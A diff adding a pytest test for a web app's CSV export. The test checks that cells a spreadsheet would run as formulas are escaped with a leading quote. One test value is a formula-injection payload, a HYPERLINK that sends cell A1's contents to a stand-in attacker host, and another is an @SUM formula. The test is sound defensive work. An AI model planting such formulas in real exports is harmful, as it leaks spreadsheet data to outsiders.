@@ -2,6 +2,8 @@
 
 import pytest
 
+from tests.factories import add_programme
+
 from .compare_readers import read_csv, read_table, read_xlsx
 
 pytestmark = pytest.mark.django_db
@@ -108,3 +110,11 @@ def test_bad_exports_are_refused_with_a_message(client, home_page, query, status
 def test_an_unknown_format_is_not_found(client, compared_pages):
     response = client.get(f"/en/compare/export/pdf/?ids={compared_pages['danish'].pk}")
     assert response.status_code == 404
+
+
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(client, sections):
+    title = '=HYPERLINK("http://attacker.example/?"&A1,"Klik")'
+    page = add_programme(sections["programmes"]["DK"], title_da=title, summary_da="@SUM(1+1)")
+    rows = read_csv(client.get(f"/da/compare/export/csv/?ids={page.pk}"))
+    assert rows[0][1] == "'" + title
+    assert ["'@SUM(1+1)"] in [row[1:] for row in rows]
